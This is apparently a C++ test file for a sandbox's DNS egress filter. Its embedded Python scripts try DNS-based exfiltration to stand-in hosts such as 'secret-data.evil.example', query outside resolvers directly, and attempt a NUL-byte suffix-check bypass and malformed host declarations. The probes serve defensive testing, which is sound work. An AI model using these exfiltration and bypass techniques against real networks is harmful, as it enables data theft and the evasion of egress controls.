// Look-ups: what is asked inside never leaves, and what is asked outside is only what was declared and is
// being connected to.
#include <algorithm>

#include "egress/fixture.hpp"

namespace cloche::test {
namespace {

class Names : public Egress {
 protected:
  static bool was_asked(const std::string& part) {
    const auto asked = stage().dns.asked();
    return std::any_of(asked.begin(), asked.end(), [&](const auto& name) { return contains(name, part); });
  }
};

// LESSONS 3: data left through DNS look-ups of tools that were allowed.
TEST_P(Names, L03_LookUpsOfWhatIsNotDeclaredNeverLeave) {
  file("ask.py", R"(import socket
for name in ['secret-data.evil.example', 'web.cloche.test.evil.example', 'x.web.cloche.test', 'leak', 'cloche.test']:
  try: print(name, socket.getaddrinfo(name, 80)[0][4])
  except socket.gaierror as problem: print(name, problem.errno == socket.EAI_NONAME)
print(socket.getaddrinfo('web.cloche.test.', 80, socket.AF_INET)[0][4][0])
)");
  const size_t before = stage().dns.asked().size();
  const Called called = call({"web.cloche.test"}, {"/usr/bin/python3", "ask.py"});
  EXPECT_EQ(called.out,
            "secret-data.evil.example True\nweb.cloche.test.evil.example True\nx.web.cloche.test True\nleak "
            "True\ncloche.test True\n198.18.1.0\n")
      << called;
  EXPECT_EQ(stage().dns.asked().size(), before)
      << "even of what is declared: it is only looked up, not connected to";
  for (const char* name :
       {"secret-data.evil.example", "web.cloche.test.evil.example", "x.web.cloche.test", "leak"})
    EXPECT_TRUE(called.denied("egress: look-up of " + std::string(name) +
                              " refused: not declared (--net: [web.cloche.test])"))
        << called;
}

TEST_P(Names, L03_NoOtherResolverIsReachable) {
  file("ask.py", R"(import socket
query = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04evil\x07example\x00\x00\x01\x00\x01'
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
  for address in ('8.8.4.4', '93.184.217.2', '127.0.0.1', '127.0.0.53'):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(2)
    try:
      s.connect((address, 53)); s.send(query); s.recv(512); print('ANSWERED', address)
    except OSError as problem: pass
print('done')
)");
  const Called called = call({"web.cloche.test"}, {"/usr/bin/python3", "ask.py"});
  EXPECT_EQ(called.out, "done\n") << called;
  EXPECT_FALSE(was_asked("leak"));
}

// LESSONS 6: a NUL in a name made a suffix check pass.
TEST_P(Names, L06_AHostNameIsReadOnceAndWhole) {
  file("ask.py", R"(import socket, struct
def ask(labels, kind=1, over=socket.SOCK_DGRAM, tail=b''):
  name = b''.join(bytes([len(l)]) + l for l in labels) + b'\0'
  message = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1) + tail
  s = socket.socket(socket.AF_INET, over); s.settimeout(10); s.connect(('198.18.0.1', 53))
  if over == socket.SOCK_STREAM: message = struct.pack('>H', len(message)) + message
  s.send(message); answer = s.recv(1500)
  if over == socket.SOCK_STREAM: answer = answer[2:]
  flags, _, count = struct.unpack('>3H', answer[2:8])
  return flags & 15, count
print('long', ask([b'a'], kind=1, tail=bytes(1200)))
print('nul', ask([b'evil.example\0', b'sub', b'cloche', b'test']))
print('dot', ask([b'a.sub.cloche', b'test']))
print('below', ask([b'a', b'sub', b'cloche', b'test']))
print('root', ask([]))
print('itself', ask([b'sub', b'cloche', b'test']))
print('AAAA', ask([b'a', b'sub', b'cloche', b'test'], 28))
print('HTTPS', ask([b'a', b'sub', b'cloche', b'test'], 65))
print('TXT', ask([b'a', b'sub', b'cloche', b'test'], 16))
print('ANY', ask([b'a', b'sub', b'cloche', b'test'], 255))
print('PTR', ask([b'4', b'4', b'8', b'8', b'in-addr', b'arpa'], 12))
print('TCP', ask([b'a', b'sub', b'cloche', b'test'], 1, socket.SOCK_STREAM))
)");
  const size_t before = stage().dns.asked().size();
  const Called called = call({"*.sub.cloche.test"}, {"/usr/bin/python3", "ask.py"});
  EXPECT_EQ(
      called.out,
      "long (1, 0)\nnul (3, 0)\ndot (3, 0)\nbelow (0, 1)\nroot (3, 0)\nitself (3, 0)\nAAAA (0, 1)\nHTTPS (0, "
      "0)\nTXT (5, 0)\nANY "
      "(5, 0)\n"
      "PTR (5, 0)\nTCP (0, 1)\n")
      << called;
  EXPECT_TRUE(called.denied("egress: look-up of the root refused: not declared (")) << called;
  // Shown so that it cannot be taken for another name, or for a sentence.
  EXPECT_TRUE(
      called.denied("egress: look-up of evil\\046example\\000.sub.cloche.test refused: not declared ("))
      << called;
  EXPECT_TRUE(called.denied("egress: look-up of a\\046sub\\046cloche.test refused: not declared ("))
      << called;
  EXPECT_EQ(stage().dns.asked().size(), before);
}

// LESSONS 6, at the door: what is no name of a host is refused before anything starts.
TEST_P(Names, L06_WhatIsNoNameIsNotDeclared) {
  for (const char* word : {"1.2.3.4",
                           "[::1]",
                           "0x7f.1",
                           "2130706433",
                           "*",
                           "*.test",
                           "a.*.test",
                           "user@web.cloche.test",
                           "https://web.cloche.test/",
                           "localhost",
                           "host.cloche",
                           "web.cloche.test:53",
                           "*.cloche.test:53",
                           "localhost:53",
                           "web.cloche.test:0",
                           "web.cloche.test:99999",
                           "a b",
                           "",
                           "-a.test",
                           "a..test"}) {
    const Ran ran = cloche_run({"--net", word}, {"true"});
    EXPECT_TRUE(refused(ran, {2}, {"declares no host"})) << word;
  }
}

// LESSONS 7: an empty list meant "everything". Nothing declared is no network at all.
TEST_P(Names, L07_NothingDeclaredIsNoNetwork) {
  const std::string words = client_program() + " connect 93.184.216.34 80; " + client_program() +
                            " connect 198.18.0.1 53; " + client_program() +
                            " connect 2606:2800:220:1::34 80; "
                            "getent ahosts web.cloche.test; cat /etc/resolv.conf";
  const Called called = shell({}, words);
  EXPECT_EQ(called.out,
            "ENETUNREACH\nENETUNREACH\nENETUNREACH\n# no network: this resolver knows no name\n"
            "nameserver 127.0.0.1\n")
      << called;
  EXPECT_EQ(called.denials.size(), 1U) << called;
  EXPECT_TRUE(called.denied("egress: this call has no network; it looked up web.cloche.test")) << called;
}

// A refusal is said when it is decided, and once more at the end where it was decided again.
TEST_P(Names, ARefusalIsSaidAtOnceAndCountedAtTheEnd) {
  const std::string script =
      "getent hosts once.example; getent hosts often.example; sleep 0.3; echo between >&2; "
      "getent hosts often.example; getent hosts often.example; true";
  const Ran ran = cloche_run({"--net", "web.cloche.test"}, {"/bin/sh", "-c", script});
  const auto said = [](const std::string& name, const std::string& end) {
    return "cloche: egress: look-up of " + name + " refused: not declared (--net: [web.cloche.test])" + end +
           "\n";
  };
  EXPECT_EQ(ran.err, said("once.example", "") + said("often.example", "") + "between\n" +
                         said("often.example", " (3 times)"));
}

// LESSONS 25: programs that know of no proxy. The whole of programs_test.cpp is about it; here, that there
// is none.
TEST_P(Names, L25_NoVariableIsNeeded) {
  const Called called = shell({"web.cloche.test"}, "env | grep -i proxy; cat /etc/resolv.conf | head -1");
  EXPECT_EQ(called.out, "nameserver 198.18.0.1\n") << called;
}

TEST_P(Names, BelowAWildcardAreBounded) {
  file("many.py", R"(import socket
answers = {}
for i in range(300):
  try: socket.getaddrinfo('n%d.many.cloche.test' % i, 80, socket.AF_INET); answer = 'known'
  except socket.gaierror: answer = 'unknown'
  answers[answer] = answers.get(answer, 0) + 1
print(sorted(answers.items()))
)");
  const size_t before = stage().dns.asked().size();
  const Called called = call({"*.many.cloche.test"}, {"/usr/bin/python3", "many.py"});
  EXPECT_EQ(called.out, "[('known', 256), ('unknown', 44)]\n") << called;
  EXPECT_TRUE(called.denied(
      "egress: look-up of n256.many.cloche.test refused: too many different names below a wildcard"))
      << called;
  EXPECT_EQ(stage().dns.asked().size(), before);
}

TEST_P(Names, LongOnesBelowAWildcardAreBoundedAsWell) {
  file("long.py", R"(import socket
known = 0
for i in range(100):
  name = '.'.join([('%02d' % i) + 'x' * 58] * 3) + '.long.cloche.test'
  try: socket.getaddrinfo(name, 80, socket.AF_INET); known += 1
  except socket.gaierror: pass
print(known)
)");
  const Called called = call({"*.long.cloche.test"}, {"/usr/bin/python3", "long.py"});
  EXPECT_EQ(called.out, std::to_string((16 << 10) / (3 * 61 - 1 + 17)) + "\n") << called;
}

// Counted in the outcome by host, however many there were.
TEST_P(Names, AHundredHostsAreCountedOneByOne) {
  Words words = {"talk"};
  for (int i = 0; i < 200; ++i) {
    const std::string name = "c" + std::to_string(i) + ".count.cloche.test";
    stage().dns.tell(name, tool_address);
    words.push_back(file(name, name + " 7000 9 0 0\nping"));
  }
  const Called called = client({"*.count.cloche.test:7000"}, words);
  EXPECT_EQ(called.used.size(), 200U) << called;
  for (const auto& [host, use] : called.used) {
    EXPECT_EQ(use.connections, 1) << host;
    EXPECT_EQ(use.bytes_out, 4) << host;
    EXPECT_EQ(use.bytes_in, 4) << host;
  }
}

// host.cloche is the host's loopback, and no server outside is asked which host that might be.
TEST_P(Names, OfTheHostsLoopbackIsNobodysOutside) {
  stage().dns.tell("host.cloche", tool_address);
  const std::string script = file("host", "host.cloche 80 9 0 0\nGET / HTTP/1.1\r\n");
  const Called called = client({"net-any"}, {"talk", script});
  EXPECT_EQ(called.out, "host.cloche unknown\n") << called;
  EXPECT_TRUE(called.denied("egress: look-up of host.cloche refused: not declared (")) << called;
  for (const auto& name : stage().dns.asked()) EXPECT_NE(name, "host.cloche");
}

FOR_EVERYONE(Names);

}  // namespace
}  // namespace cloche::test
